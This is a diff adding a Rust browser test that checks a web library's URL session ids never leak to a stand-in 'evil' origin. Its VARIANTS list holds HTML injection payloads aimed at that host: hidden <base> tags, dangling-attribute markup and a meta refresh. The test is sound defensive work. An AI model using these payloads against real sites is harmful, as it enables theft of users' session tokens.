@@ -1,0 +1,298 @@
+//! No session id reaches another origin, whatever the markup around the links (DESIGN §1.8):
+//! chromium, with cookies blocked, visits pages whose text an attacker controls and that try
+//! to point the page's links elsewhere — a `<base>` hidden where the HTML rewriter's
+//! tokenizer and a browser (its parser or its preload scanner) disagree (CDATA in SVG and
+//! MathML, `<noscript>`, `<template>`, `<style>`/`<textarea>` in XHTML), an attribute left
+//! open across the rewritten links, a `<meta http-equiv=refresh>` — with scripts on and off.
+//! A second server on another loopback port (the "evil" origin) records every request it
+//! gets; none may carry the id, while the same-origin links of a plain page still do.
+
+use std::io::{Read, Write};
+use std::net::{SocketAddr, TcpListener, TcpStream};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::{Arc, Mutex};
+use std::thread::JoinHandle;
+use std::time::{Duration, Instant};
+
+use axum::Router;
+use axum::extract::Path;
+use axum::http::header;
+use axum::response::IntoResponse;
+use axum::routing::any;
+use fastmmap::session::{SessionStore, UrlRewriter};
+use fastmmap::web::{Session, SessionLayer};
+use serde_json::json;
+use tower_layer::Layer;
+
+use crate::browser::{Browser, Page, browser_required, chromium};
+use crate::common::{serial, temp_dir};
+use crate::server::Server;
+
+/// The most connections the evil server serves (chromium opens a few per page).
+const MAX_CONNECTIONS: usize = 2000;
+
+/// An HTTP server on 127.0.0.1 that records the head of every request it gets and answers
+/// each with an empty page.
+struct Recorder {
+    addr: SocketAddr,
+    heads: Arc<Mutex<Vec<String>>>,
+    stop: Arc<AtomicBool>,
+    thread: Option<JoinHandle<()>>,
+}
+
+impl Recorder {
+    fn start() -> Recorder {
+        let listener = TcpListener::bind("127.0.0.1:0").expect("bind the evil server");
+        listener.set_nonblocking(true).unwrap();
+        let addr = listener.local_addr().unwrap();
+        let heads = Arc::new(Mutex::new(Vec::new()));
+        let stop = Arc::new(AtomicBool::new(false));
+        let (h, s) = (Arc::clone(&heads), Arc::clone(&stop));
+        let thread = std::thread::spawn(move || {
+            let mut served = 0;
+            while !s.load(Ordering::Relaxed) && served < MAX_CONNECTIONS {
+                match listener.accept() {
+                    Ok((stream, _)) => {
+                        served += 1;
+                        let h = Arc::clone(&h);
+                        std::thread::spawn(move || Recorder::serve(stream, &h));
+                    }
+                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
+                }
+            }
+        });
+        Recorder {
+            addr,
+            heads,
+            stop,
+            thread: Some(thread),
+        }
+    }
+
+    /// Reads one request head (bounded in size and time), records it, answers.
+    fn serve(mut stream: TcpStream, heads: &Mutex<Vec<String>>) {
+        let _ = stream.set_nonblocking(false);
+        let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
+        let _ = stream.set_write_timeout(Some(Duration::from_secs(5)));
+        let mut head = Vec::new();
+        let mut buf = [0u8; 4096];
+        while !head.windows(4).any(|w| w == b"\r\n\r\n") && head.len() < 64 * 1024 {
+            match stream.read(&mut buf) {
+                Ok(0) | Err(_) => break,
+                Ok(n) => head.extend_from_slice(&buf[..n]),
+            }
+        }
+        if head.is_empty() {
+            return; // a preconnect that sent nothing
+        }
+        heads
+            .lock()
+            .unwrap()
+            .push(String::from_utf8_lossy(&head).into_owned());
+        let _ = stream.write_all(
+            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 0\r\n\
+              Connection: close\r\n\r\n",
+        );
+    }
+
+    fn heads(&self) -> Vec<String> {
+        self.heads.lock().unwrap().clone()
+    }
+}
+
+impl Drop for Recorder {
+    fn drop(&mut self) {
+        self.stop.store(true, Ordering::Relaxed);
+        if let Some(t) = self.thread.take() {
+            let _ = t.join();
+        }
+    }
+}
+
+/// The pages: `(name, content type, markup before the links)`. `EVIL` stands for the evil
+/// origin's `//host:port`.
+const VARIANTS: &[(&str, &str, &str)] = &[
+    ("control", HTML, ""),
+    ("svg-cdata", HTML, r#"<svg><![CDATA[<base href="EVIL/app/">]]></svg>"#),
+    ("svg-cdata-gt", HTML, r#"<svg><![CDATA[><base href="EVIL/app/">]]></svg>"#),
+    ("math-cdata", HTML, r#"<math><![CDATA[><base href="EVIL/app/">]]></math>"#),
+    (
+        "math-mtext",
+        HTML,
+        r#"<math><mtext><![CDATA[><base href="EVIL/app/">]]></mtext></math>"#,
+    ),
+    ("math-style", HTML, r#"<math><style><base href="EVIL/app/"></style></math>"#),
+    ("svg-style", HTML, r#"<svg><style><base href="EVIL/app/"></style></svg>"#),
+    ("noscript", HTML, r#"<noscript><base href="EVIL/app/"></noscript>"#),
+    (
+        "noscript-p",
+        HTML,
+        r#"<noscript><p><BASE HREF=EVIL/app/></p></noscript>"#,
+    ),
+    ("template", HTML, r#"<template><base href="EVIL/app/"></template>"#),
+    ("select", HTML, r#"<select><base href="EVIL/app/"></select>"#),
+    ("comment", HTML, r#"<!-- <base href="EVIL/app/"> -->"#),
+    ("textarea", HTML, r#"<textarea><base href="EVIL/app/"></textarea>"#),
+    // An attribute opened where the rewriter sees text, closed after the rewritten links:
+    // whoever reads it as markup fetches a URL with the links' text in it.
+    (
+        "open-attribute",
+        HTML,
+        r#"<svg><![CDATA[><img src='EVIL/x?]]></svg>"#,
+    ),
+    (
+        "noscript-open-attribute",
+        HTML,
+        r#"<noscript><img src='EVIL/x?</noscript>"#,
+    ),
+    (
+        "refresh",
+        HTML,
+        r#"<meta http-equiv="refresh" content="0;url=EVIL/refreshed">"#,
+    ),
+    ("xhtml-style", XHTML, r#"<style><base href="EVIL/app/"/></style>"#),
+    (
+        "xhtml-textarea",
+        XHTML,
+        r#"<form><textarea><base href="EVIL/app/"/></textarea></form>"#,
+    ),
+    (
+        "xhtml-cdata",
+        XHTML,
+        r#"<p><![CDATA[x]]></p><base href="EVIL/app/"/>"#,
+    ),
+];
+
+const HTML: &str = "text/html; charset=utf-8";
+const XHTML: &str = "application/xhtml+xml";
+
+/// A variant page: the attack, then links of the application (a tracking pixel, a
+/// stylesheet, a relative image, a link, a form) and a closing `'`.
+fn page(name: &str, evil: SocketAddr) -> (&'static str, String) {
+    let (_, content_type, attack) = VARIANTS
+        .iter()
+        .find(|(n, _, _)| *n == name)
+        .expect("a known variant");
+    let attack = attack.replace("EVIL", &format!("//{evil}"));
+    let links = format!(
+        r#"<img id="pixel" src="/pixel/{name}"/><link rel="stylesheet" href="/style/{name}"/><img id="rel" src="rel/{name}"/><a id="next" href="/next/{name}">next</a><form id="f" action="/form/{name}"><input name="q"/></form><p title='end'>end</p>"#
+    );
+    let body = if *content_type == XHTML {
+        format!(
+            r#"<?xml version="1.0" encoding="UTF-8"?>
+<html xmlns="http://www.w3.org/1999/xhtml"><head><title>{name}</title></head><body>{attack}{links}</body></html>"#
+        )
+    } else {
+        format!(
+            "<!DOCTYPE html><html><head><title>{name}</title></head><body>{attack}{links}</body></html>"
+        )
+    };
+    (content_type, body)
+}
+
+/// The application: `/v/NAME` (a variant page, which uses the session), and the
+/// resources its links name.
+fn app(path: std::path::PathBuf, addr: SocketAddr, evil: SocketAddr) -> Router {
+    let store = SessionStore::builder()
+        .path(path)
+        .urls(UrlRewriter::new(&format!("http://{addr}/")).unwrap())
+        .build()
+        .unwrap();
+    let routes = Router::new()
+        .route(
+            "/v/{name}",
+            any(move |session: Session, Path(name): Path<String>| async move {
+                session.insert("seen", &name).expect("session");
+                let (content_type, body) = page(&name, evil);
+                ([(header::CONTENT_TYPE, content_type)], body)
+            }),
+        )
+        .route(
+            "/style/{*rest}",
+            any(|| async { ([(header::CONTENT_TYPE, "text/css")], "") }),
+        )
+        .fallback(any(|| async { "ok".into_response() }));
+    Router::new().fallback_service(SessionLayer::new(store).layer(routes))
+}
+
+#[test]
+fn no_session_id_reaches_another_origin_whatever_the_markup() {
+    let _serial = serial();
+    let Some(binary) = chromium() else {
+        assert!(
+            !browser_required(),
+            "FASTMMAP_REQUIRE_BROWSER=1 but chromium is not installed (apt-get install chromium)"
+        );
+        eprintln!("\nSKIPPED: the id-leak browser test needs chromium (apt-get install chromium)\n");
+        return;
+    };
+    let evil = Recorder::start();
+    let evil_addr = evil.addr;
+    let dir = temp_dir();
+    let path = Server::session_file(&dir);
+    let server = Server::start(1, dir, move |addr| app(path.clone(), addr, evil_addr));
+    let origin = format!("http://{}", server.addr);
+    let mut browser = Browser::launch(&binary);
+
+    // The plain page: its links carry the id, to this origin, and the browser fetches them.
+    let id = {
+        let mut page = Page::open(&mut browser);
+        page.navigate(&format!("{origin}/v/control"));
+        page.wait_for("the control page", |h, _| h.ends_with("/v/control"));
+        let next = page.eval("document.getElementById('next').href");
+        let next = next.as_str().expect("a link").to_owned();
+        let id = next
+            .rsplit_once("/-/")
+            .map(|(_, id)| id.to_owned())
+            .unwrap_or_else(|| panic!("the link carries no id: {next}"));
+        let pixel = page.eval("document.getElementById('pixel').src");
+        assert_eq!(pixel, json!(format!("{origin}/pixel/control/-/{id}")));
+        id
+    };
+
+    let mut visited = Vec::new();
+    for scripts in [true, false] {
+        let mut page = Page::open(&mut browser);
+        page.call(
+            "Emulation.setScriptExecutionDisabled",
+            json!({ "value": !scripts }),
+        );
+        for (name, _, _) in VARIANTS {
+            // The address carries the id too: the client came by a rewritten link.
+            page.navigate(&format!("{origin}/v/{name}/-/{id}"));
+            let evil_origin = format!("http://{evil_addr}/");
+            let (href, _) = page.wait_for(name, |h, _| {
+                if *name == "refresh" {
+                    h.starts_with(&evil_origin)
+                } else {
+                    h.contains(&format!("/v/{name}/"))
+                }
+            });
+            if *name != "refresh" {
+                let links = page.eval(
+                    "JSON.stringify([document.getElementById('pixel').src, \
+                     document.getElementById('next').href])",
+                );
+                visited.push(format!("scripts={scripts} {name}: {href} {links}"));
+            }
+        }
+    }
+    drop(browser);
+    // Anything still in flight reaches the recorder within its read timeout.
+    let deadline = Instant::now() + Duration::from_secs(2);
+    while Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    let heads = evil.heads();
+    eprintln!("pages:\n{}", visited.join("\n"));
+    eprintln!("the evil server got {} requests:", heads.len());
+    for head in &heads {
+        eprintln!("  {}", head.lines().next().unwrap_or(""));
+    }
+    let leaks: Vec<&String> = heads.iter().filter(|h| h.contains(&id)).collect();
+    assert!(leaks.is_empty(), "the id reached the evil origin: {leaks:#?}");
+    assert!(
+        !heads.is_empty(),
+        "the evil server recorded nothing: the refresh page alone goes there"
+    );
+}
